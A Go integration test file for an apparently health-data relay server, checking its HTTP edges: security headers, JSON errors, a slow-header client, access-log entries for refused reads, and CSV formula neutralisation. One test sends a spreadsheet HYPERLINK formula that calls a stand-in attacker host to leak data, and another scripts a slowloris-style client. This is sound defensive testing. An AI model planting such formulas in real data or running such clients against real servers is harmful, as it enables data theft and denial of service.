package tests

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/relais-health/relais/adapters/mllp"
	"github.com/relais-health/relais/internal/poll"
)

// edgeAnswer is one response of the real server.
type edgeAnswer struct {
	status int
	header http.Header
	body   string
}

// edgeCall makes one request with token ("" for none).
func edgeCall(t *testing.T, method, url, token string) edgeAnswer {
	t.Helper()
	req, err := http.NewRequest(method, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return edgeAnswer{status: resp.StatusCode, header: resp.Header, body: string(b)}
}

// The edges of `relais serve`'s HTTP listener, walked with the real binary
// (the demo territory): every response is not stored and not sniffed; an
// unknown path or a wrong method gets the API's JSON error; a client that
// sends its headers slowly is cut off; a refused read of a client file is
// in the auditor's access log; an identifier a hospital sent as a
// spreadsheet formula reaches the archivist's CSV as text.
func TestHTTPEdges_TheRealServer(t *testing.T) {
	data := t.TempDir()
	srv := startServe(t, data, "--demo", "--demo-every", "0", "--durability", "relaxed",
		"--http-read-header-timeout", "1s", "--http-read-timeout", "2s")
	base := "http://" + srv.HTTP

	t.Run("every response is marked no-store and nosniff", func(t *testing.T) {
		for _, tc := range []struct {
			name, method, path, token string
			status                    int
		}{
			{"a client file", "GET", "/v1/clients/client-01", "demo-cm-1", http.StatusOK},
			{"the archivist's CSV", "GET", "/v1/reports/high-utilizers?format=csv", "demo-arch-1", http.StatusOK},
			{"no token", "GET", "/v1/alerts", "", http.StatusUnauthorized},
			{"a refused read", "GET", "/v1/clients/client-03", "demo-rehab-1", http.StatusForbidden},
			{"an unknown path", "GET", "/v1/no-such-thing", "demo-cm-1", http.StatusNotFound},
			{"a wrong method", "DELETE", "/v1/alerts", "demo-cm-1", http.StatusMethodNotAllowed},
			{"the health check", "GET", "/healthz", "", http.StatusOK},
		} {
			a := edgeCall(t, tc.method, base+tc.path, tc.token)
			if a.status != tc.status {
				t.Errorf("%s: status %d %.200s, want %d", tc.name, a.status, a.body, tc.status)
			}
			if a.header.Get("Cache-Control") != "no-store" || a.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s: Cache-Control %q, X-Content-Type-Options %q; want no-store, nosniff", tc.name,
					a.header.Get("Cache-Control"), a.header.Get("X-Content-Type-Options"))
			}
		}
	})

	t.Run("unknown paths and wrong methods get the JSON error body", func(t *testing.T) {
		for _, tc := range []struct {
			name, method, path string
			status             int
			allow              string
		}{
			{"an unknown path under /v1", "GET", "/v1/clients/client-01/everything", http.StatusNotFound, ""},
			{"an unknown path at the root", "GET", "/admin", http.StatusNotFound, ""},
			{"a wrong method on the alerts", "PUT", "/v1/alerts", http.StatusMethodNotAllowed, "GET, HEAD"},
		} {
			a := edgeCall(t, tc.method, base+tc.path, "demo-cm-1")
			var body struct {
				Error  string `json:"error"`
				Status int    `json:"status"`
			}
			if err := json.Unmarshal([]byte(a.body), &body); err != nil || a.status != tc.status || body.Status != tc.status || body.Error == "" {
				t.Errorf("%s: %d %q (%v), want %d with {\"error\",\"status\"}", tc.name, a.status, a.body, err, tc.status)
			}
			if !strings.HasPrefix(a.header.Get("Content-Type"), "application/json") || a.header.Get("Allow") != tc.allow {
				t.Errorf("%s: Content-Type %q, Allow %q; want JSON, Allow %q", tc.name, a.header.Get("Content-Type"), a.header.Get("Allow"), tc.allow)
			}
		}
	})

	t.Run("a client sending its headers slowly is cut off", func(t *testing.T) {
		c, err := net.Dial("tcp", srv.HTTP)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		// One header byte every 50ms: the request would take 10s.
		req := "GET /v1/me HTTP/1.1\r\nHost: relais\r\nX-Slow: " + strings.Repeat("s", 200) + "\r\nAuthorization: Bearer demo-cm-1\r\n\r\n"
		cut := make(chan error, 1)
		go func() {
			for i := 0; i < len(req); i++ {
				if _, err := c.Write([]byte{req[i]}); err != nil {
					cut <- err
					return
				}
				time.Sleep(50 * time.Millisecond)
			}
			cut <- nil
		}()
		// The server closes the connection, with nothing or a bare 400
		// (net/http answers 400 when the deadline falls inside a line).
		c.SetReadDeadline(time.Now().Add(8 * time.Second)) //nolint:errcheck
		start := time.Now()
		got, err := io.ReadAll(c)
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			t.Fatalf("still connected after %v: no header timeout", time.Since(start))
		}
		if len(got) > 0 && !strings.HasPrefix(string(got), "HTTP/1.1 400 ") {
			t.Fatalf("the server answered a request whose headers were still coming: %q", got)
		}
		t.Logf("cut off after %v (%q)", time.Since(start), got)
		select {
		case err := <-cut:
			if err == nil {
				t.Fatal("the whole slow request went out before the server cut it off")
			}
		case <-time.After(5 * time.Second):
			t.Fatal("the client can still write 5s after the server closed the connection")
		}
	})

	t.Run("a refused read of a client file is in the access log", func(t *testing.T) {
		// client-02's doctor consent names doc-2, and it gave no rehab consent.
		for _, tc := range []struct{ token, path string }{
			{"demo-rehab-1", "/v1/clients/client-02"},
			{"demo-doc-1", "/v1/clients/client-02/timeline"},
		} {
			if a := edgeCall(t, "GET", base+tc.path, tc.token); a.status != http.StatusForbidden {
				t.Fatalf("%s GET %s: %d %.200s, want 403", tc.token, tc.path, a.status, a.body)
			}
		}
		if a := edgeCall(t, "GET", base+"/v1/clients/client-02", "demo-doc-2"); a.status != http.StatusOK {
			t.Fatalf("the named doctor: %d %.200s", a.status, a.body)
		}
		out, errs, code := runRelais(t, "audit", "access", "--data", data, "--client", "client-02", "--csv")
		if code != 0 {
			t.Fatalf("audit access: exit %d %s", code, errs)
		}
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("audit access --csv printed %q: %v", out, err)
		}
		var got []string
		for _, r := range rows[1:] {
			got = append(got, strings.Join(r[1:6], "/")) // actor/role/view/outcome/reason
		}
		want := []string{"rehab-1/rehab/file/denied/no_consent", "doc-1/doctor/timeline/denied/no_consent", "doc-2/doctor/file/read/"}
		if strings.Join(got, " ") != strings.Join(want, " ") {
			t.Fatalf("access log of client-02:\n%s\nwant %q", out, want)
		}
		table, _, _ := runRelais(t, "audit", "access", "--data", data, "--client", "client-02")
		if !strings.Contains(table, "denied") || !strings.Contains(table, "rehab-1") {
			t.Fatalf("the access log table does not show the refusal:\n%s", table)
		}
	})

	t.Run("an identifier sent as a formula reaches the archivist's CSV as text", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		c, err := mllp.Dial(ctx, srv.MLLP, nil)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		formula := `=HYPERLINK("http://evil.example/?leak","RAMQ")`
		reply, err := c.Send(ctx, adt("A04", "9101", formula, "V9101", "HSTA"))
		if err != nil {
			t.Fatal(err)
		}
		if code := ackCode(t, reply); code != "AA" {
			t.Fatalf("A04 of a non-client: %s (%q)", code, reply)
		}
		end := time.Now().AddDate(1, 0, 0).UTC().Format(time.RFC3339)
		var cell string
		poll.CheckFor(t, 10*time.Second, 50*time.Millisecond, func() error {
			a := edgeCall(t, "GET", base+"/v1/reports/high-utilizers?format=csv&window=24m&end="+end, "demo-arch-1")
			if a.status != http.StatusOK {
				return fmt.Errorf("high utilizers: %d %s", a.status, a.body)
			}
			rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
			if err != nil {
				return err
			}
			for _, r := range rows[1:] {
				if strings.Contains(r[8], "HYPERLINK") {
					cell = r[8]
					return nil
				}
			}
			return fmt.Errorf("the visit is not in the list yet:\n%s", a.body)
		})
		if cell != "'"+formula {
			t.Fatalf("identifier cell %q, want %q (a quote in front)", cell, "'"+formula)
		}
	})
}

// A bad --http-* value is refused at start, naming the flag, before
// anything is opened.
func TestHTTPEdges_BadLimitsAreRefusedAtStart(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		flag string
	}{
		{"a write timeout shorter than the stream heartbeat", []string{"--http-write-timeout", "5s"}, "--http-write-timeout"},
		{"no connection allowed", []string{"--http-max-conns", "0"}, "--http-max-conns"},
		{"a header timeout of zero", []string{"--http-read-header-timeout", "0s"}, "--http-read-header-timeout"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			args := append([]string{"serve", "--data", t.TempDir(), "--http", freeAddr(t), "--nats-listen", freeAddr(t), "--mllp", freeAddr(t)}, tc.args...)
			_, errs, code := runRelais(t, args...)
			if code != 2 || !strings.Contains(errs, tc.flag+":") {
				t.Fatalf("exit %d, stderr %q; want exit 2 naming %s", code, errs, tc.flag)
			}
		})
	}
}
